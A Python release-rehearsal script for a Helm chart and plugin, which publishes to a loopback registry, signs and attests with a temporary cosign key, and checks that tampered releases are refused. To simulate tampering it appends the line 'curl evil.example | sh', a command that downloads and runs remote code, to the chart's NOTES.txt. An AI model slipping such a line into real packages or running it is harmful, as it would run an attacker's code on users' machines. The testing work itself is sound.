"""A release from end to end on this machine: a registry on loopback, a key made on the spot, nothing published."""

from __future__ import annotations

import json
import os
import tempfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from unittest.mock import patch

from harness.cluster import Cluster
from harness.cluster.given import Given
from harness.errors import HarnessError
from harness.helm import Helm
from harness.paths import ROOT
from harness.progress import console, step
from harness.release import artifacthub, cosign, plugin, publication, sbom, source
from harness.release.archive import unpack
from harness.release.package import Package, build, pack
from harness.release.publication import by_digest
from harness.run import run
from harness.stack import Published, loopback_registry
from harness.tools import tool

EXAMPLE = ROOT / "examples" / "single-vllm.yaml"

NEXT = """\
Nothing was published: the registry and the key are gone.
To release for real, merge the pull request that release-please keeps open on main. The workflow then takes these steps
with the registry ghcr.io and GitHub's identity instead of the key. See CONTRIBUTING.md, "Releases"."""


def rehearse(cluster: Cluster | None = None) -> None:
    """Take the workflow's steps, then tamper with what was released; the chart is installed if there is a cluster.

    Images made here are loaded into it first, unless it is the user's own. Helm, crane and cosign get no credentials.

    Raises:
        HarnessError: a step failed, or tampering was not noticed.
    """
    with tempfile.TemporaryDirectory(prefix="release-") as temporary, loopback_registry() as host:
        directory, registry = Path(temporary), f"{host}/charts"
        with patch.dict(os.environ, DOCKER_CONFIG=str(directory / "nobody")):
            package = _packaged(directory)
            _planned(directory, package)
            with step("Making a key pair; releases have none, GitHub's identity signs"):
                key = cosign.key_pair(directory / "cosign")
            bill = directory / "sbom.json"
            bill.write_text(sbom.cyclonedx(package, f"{registry}/{package.name}"))
            published = publication.publish(package, bill, registry, key, plain_http=True)
            with step("Reading what Artifact Hub reads") as shown:
                if (
                    artifacthub.published(published.reference.removeprefix("oci://"))
                    != (ROOT / "artifacthub-repo.yml").read_text()
                ):
                    raise HarnessError("Artifact Hub would read something else than artifacthub-repo.yml.")
                manifest = json.loads(run([tool("crane"), "manifest", by_digest(published)]).stdout)
                count = sum(key.startswith("artifacthub.io/") for key in manifest["annotations"])
                shown.detail(f"{count} annotations on the chart")
            with step("Attesting the provenance, as GitHub's action does"):
                statement = directory / "provenance.json"
                statement.write_text(json.dumps(_provenance(package)))
                cosign.attest(by_digest(published), key, cosign.PROVENANCE_TYPE, statement)
            (directory / "pulled").mkdir()
            load = not isinstance(cluster, Given)
            pulled = publication.verify(published, key, directory / "pulled", True, cluster, load)
            _tamper(directory, package, registry, published, key, pulled)
    console.print(NEXT, markup=False, soft_wrap=True)


def _packaged(directory: Path) -> Package:
    with step("Packaging the commit twice: the same bytes") as shown:
        package, again = build(directory / "first"), build(directory / "second")
        publication.check_bytes(again.archive, package)
        left_out = " (uncommitted changes are not in it)" if package.commit.changed else ""
        size = package.archive.stat().st_size
        shown.detail(f"{package.archive.name}, {size:,} bytes, commit {package.commit.revision[:12]}{left_out}")
    return package


def _planned(directory: Path, package: Package) -> None:
    """Make the plugin, install it into each Helm as a user does, and plan an example with the chart that is in it."""
    archive = plugin.build(directory / "plugin", package.archive, package.version, package.commit.epoch)
    unpacked = unpack(archive, directory / "plugin" / "unpacked")
    for helm in (Helm(tool("helm")), Helm(tool("helm3"))):
        with step(f"Installing the plugin into Helm {helm.major}, and planning an example") as shown:
            homes = plugin.install(helm, directory / "plugin" / str(helm.major), unpacked)
            listed = helm.run("plugin", "list", env=homes).stdout
            said = helm.run("inference-stack", "plan", "-f", EXAMPLE, "--gpu", "H100", env=homes).stdout
            verdict = next((line for line in said.splitlines() if ": fits: " in line), "")
            if package.version not in listed.split() or not verdict:
                raise HarnessError(f"The plugin does not plan {EXAMPLE.name} as it should.", f"{listed}\n{said}")
            shown.detail(verdict)


def _provenance(package: Package) -> dict[str, object]:
    """A minimal SLSA provenance (https://slsa.dev/spec/v1.1/provenance), in place of that which GitHub attests."""
    home = source.metadata()["home"]
    materials = [{"uri": f"git+{home}", "digest": {"gitCommit": package.commit.revision}}]
    return {
        "buildDefinition": {"buildType": home, "externalParameters": {}, "resolvedDependencies": materials},
        "runDetails": {"builder": {"id": "tag:localhost,2026:rehearsal"}},
    }


def _tamper(
    directory: Path, package: Package, registry: str, published: Published, key: cosign.Signer, pulled: Path
) -> None:
    """Change what was released in each place that a user relies on, and see it refused."""
    repository = published.reference.removeprefix("oci://")
    chart = directory / "tampered"
    source.export(chart)
    notes = chart / "templates" / "NOTES.txt"
    notes.write_text(f"{notes.read_text()}\ncurl evil.example | sh\n")
    changed = replace(package, archive=pack(chart, directory / "third", package.commit.epoch))
    tampered = publication.push(changed, registry, plain_http=True)
    other = cosign.key_pair(directory / "other")
    _refused("somebody else's signature", lambda: cosign.verify(by_digest(published), other))
    _refused("a changed archive", lambda: publication.check_contents(published, key, changed.archive))
    _refused("a changed chart under the same tag", lambda: cosign.verify(f"{repository}:{package.version}", key))
    _refused("a changed chart by its digest", lambda: cosign.verify(by_digest(tampered), key))
    cosign.verify(by_digest(published), key)  # the released one is still there, by its digest
    signatures, moved = (each.digest.replace(":", "-") for each in (published, tampered))
    run([tool("crane"), "tag", f"{repository}:{signatures}", moved])
    _refused("a changed chart with moved signatures", lambda: cosign.verify(by_digest(tampered), key))
    _refused("moved attestations", lambda: publication.check_contents(tampered, key, pulled))


def _refused(what: str, attempt: Callable[[], object]) -> None:
    """Show why the attempt is refused; HarnessError if it is not."""
    with step(f"Refused: {what}") as shown:
        try:
            attempt()
        except HarnessError as error:
            reasons = [line for line in error.message.splitlines() if "rror" in line] or [error.message]
            shown.detail(reasons[0].removeprefix("Error: ").strip())
        else:
            raise HarnessError("It was not refused.", "The verification proves nothing: do not release.")
